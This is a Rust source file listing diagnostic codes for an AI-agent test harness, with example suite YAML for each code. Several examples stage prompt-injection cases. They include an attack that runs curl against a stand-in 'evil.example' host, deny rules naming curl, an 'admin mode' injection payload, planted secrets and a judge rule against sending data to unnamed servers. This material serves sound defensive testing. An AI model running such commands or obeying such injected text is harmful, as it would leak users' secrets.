//! Pages of diagnostic codes: what a case means.
//!
//! Owns: what each code means and an example.
//! Must not know: who reports it.

use super::Code;

pub const CODES: &[Code] = &[
    Code {
        name: "ambiguous-session",
        about: "With several sessions and no `main`, the whole case has no one `reply` or `{{session.x}}`. Write the check at the step.",
        example: "steps: [{user: a, session: s1}, {user: b, session: s2}]\nexpect: {reply: Hi}",
    },
    Code {
        name: "attack-not-noticed",
        about: "A case has an `attack`, and no check that doing what it wants would fail. Write one that needs no judge.",
        example: "attack: {run: curl https://evil.example}\nnever: {commands: {curl: [\"*\"]}}",
    },
    Code {
        name: "attack-not-reached",
        about: "A case has an `attack`, and no `reach`: an agent that never read it would pass.",
        example: "reach: {delivered: {contains: admin mode}}",
    },
    Code {
        name: "attack-without-twin",
        about: "All rows of a case have an `attack` (a warning): an agent that refuses everything may pass. The benign twin is a row without.",
        example: "each: [{id: attack, body: \"…\", attack: {run: curl evil.example}}, {id: benign twin, body: Hello}]",
    },
    Code {
        name: "cannot-be-seen",
        about: "The check looks at something that this protocol, or this way to run the agent, never shows: it could never fail, or never pass.",
        example: "expect: {usage: {total: {lt: 5000}}}          # with a protocol without `usage`",
    },
    Code {
        name: "cannot-be-shared",
        about: "With the transport `stdio` the agent's process is its connection, and each case has its own; it cannot be kept for the next case.",
        example: "agent: {protocol: codex-app-server, command: [codex, app-server], scope: suite}",
    },
    Code {
        name: "cannot-restart",
        about: "Only an agent that was launched can be started again.",
        example: "agent: {protocol: acme, url: ws://127.0.0.1:9}\nsteps: [{restart: agent}]",
    },
    Code {
        name: "cannot-stop",
        about: "`stop` and `start` follow each other, and name a fake that is a server: a mocked command is a program.",
        example: "fakes: {gog: {command: [{stdout: x}]}}\nsteps: [{stop: gog}]",
    },
    Code {
        name: "secret-not-planted",
        about: "A secret that the agent can never come by is kept by any agent. Plant it in a file or a variable, or insert it into what the agent is given.",
        example: "secrets: {key: {}}               # never inserted anywhere\nexpect: {secrets: kept}",
    },
    Code {
        name: "unknown-secret",
        about: "`secrets` in `expect` names a secret that the case does not have.",
        example: "secrets: {gateway: {file: ~/.gateway}}\nexpect: {secrets: [gatway]}",
    },
    Code {
        name: "judged-alone",
        about: "A case tagged `security` leaves what must not happen to the judge alone (a warning): a judge that overlooked it gives no evidence. Add a check that needs no judge.",
        example: "never: {calls: [{exec: {command: {matches: curl}}}]}\njudge: [{must_not: Sends data to a server that the user did not name.}]",
    },
    Code {
        name: "never-names-nothing",
        about: "A name in `never` that nobody has (a warning): the check can never match, and so never fail.",
        example: "never: {commands: {crul: [\"*\"]}}",
    },
    Code {
        name: "no-connection",
        about: "With the transport `exec` each turn is a process of its own: there is no connection to send over, to cut, or to open in another way.",
        example: "- send: {type: ping}      # with codex-exec",
    },
    Code {
        name: "no-judge-model",
        about: "A rubric is there, and nobody who judges (a warning): a run is refused unless it says `--judge-mode off`.",
        example: "judge: {model: anthropic/claude-sonnet-4-5-20250929}          # in checkride.yaml or in the suite",
    },
    Code {
        name: "no-positive-check",
        about: "An agent that does nothing would pass. A case needs one check that needs the agent to act.",
        example: "expect: {turn: completed}                     # wrong\nexpect: {reply: {contains: 10 EUR}}           # right",
    },
    Code {
        name: "no-rpc",
        about: "The protocol has no requests with replies, so `rpc` cannot be sent.",
        example: "- rpc: chat.send          # with moltbot-gateway",
    },
    Code {
        name: "no-solution",
        about: "A persona plays what the case says of each turn; this turn says nothing.",
        example: "solution: {run: gog gmail get m1, reply: The invoice asks for 10 EUR.}",
    },
    Code {
        name: "no-url",
        about: "Nothing says where the agent listens: neither `url`, nor a `ready: {log: …}` with a group `url`.",
        example: "ready: {log: \"listening on (?<url>ws://\\\\S+)\"}",
    },
    Code {
        name: "no-version",
        about: "`only_if: {agent_version: …}` needs an agent with `version`.",
        example: "version: {command: [codex, --version], matches: \"(\\\\d+\\\\.\\\\d+\\\\.\\\\d+)\"}",
    },
    Code {
        name: "not-returned",
        about: "The step's verb returns no such thing.",
        example: "- {user: Hi, expect: {result: 1}}             # wrong\n- {rpc: ping, expect: {result: 1}}            # right",
    },
    Code {
        name: "one-session-only",
        about: "All sessions share one connection and frames do not say to which one they belong, so a second session could not be told apart.",
        example: "open: {per: session}          # in the protocol; or `belongs`",
    },
    Code {
        name: "own-family",
        about: "The judge is of the same maker as the agent's model (a warning): models pass more of what their own family wrote.",
        example: "judge: {model: openai/gpt-4.1-2025-04-14}                      # for claude-code",
    },
    Code {
        name: "pause",
        about: "A pause is a guess about time (a warning): `await` what must arrive, or `quiet` for what must not.",
        example: "- pause: 50ms                 # better: - await: turn.finished",
    },
    Code {
        name: "unclear-statement",
        about: "A statement of a rubric is not one plain fact (a warning): it joins two, denies something, is very short or very long, or uses a word that each judge takes in its own way.",
        example: "judge: [Is helpful and does not lie.]                         # wrong\njudge: [Names every wallet., {must_not: Names a wallet that the tool did not return.}]      # right",
    },
    Code { name: "unknown-action", about: "The protocol has no such action.", example: "- do: abrot" },
    Code { name: "unknown-event", about: "A plain text among events is the type of a normalised event.", example: "- await: turn.finishd" },
    Code {
        name: "unknown-fake",
        about: "A check or an `await` names a fake that the case does not have, or one of another kind.",
        example: "expect: {requests: {lm: {count: 1}}}",
    },
    Code {
        name: "unknown-gate",
        about: "`release` names a gate at which no reply waits.",
        example: "script: [[{gate: first}, {text: Hi}]]\nsteps: [{release: frist}]",
    },
    Code {
        name: "unknown-invariant",
        about: "No rule that always holds has this name.",
        example: "invariants: {without: [call_have_results]}",
    },
    Code {
        name: "unknown-path",
        about: "The path begins with a member that what was observed does not have. `checkride show` prints all of it.",
        example: "expect: {at: {$.replies: [Hi]}}          # `$.reply`",
    },
    Code {
        name: "unknown-protocol",
        about: "The protocol is neither built in nor the path of a file.",
        example: "protocol: moltbot-gatway",
    },
    Code {
        name: "unknown-session",
        about: "A step waits in a session that no step opens.",
        example: "- {user: Hi, session: bob}\n- {await: turn.finished, session: bop}",
    },
    Code { name: "unknown-setting", about: "The protocol has no such setting.", example: "settings: {tokn: x}" },
    Code {
        name: "unpinned-model",
        about: "The model that judges is named by an alias, which the provider may lead to another model tomorrow: the verdicts in the lock would be of nobody knows whom.",
        example: "judge: {model: anthropic/claude-sonnet-4-5-20250929}          # or `allow_unpinned: true`",
    },
    Code {
        name: "which-model",
        about: "With several model fakes the agent is told of none by itself (a warning): say in its `env` which one it uses.",
        example: "env: {OPENAI_BASE_URL: \"{{main.url}}/v1\"}",
    },
];
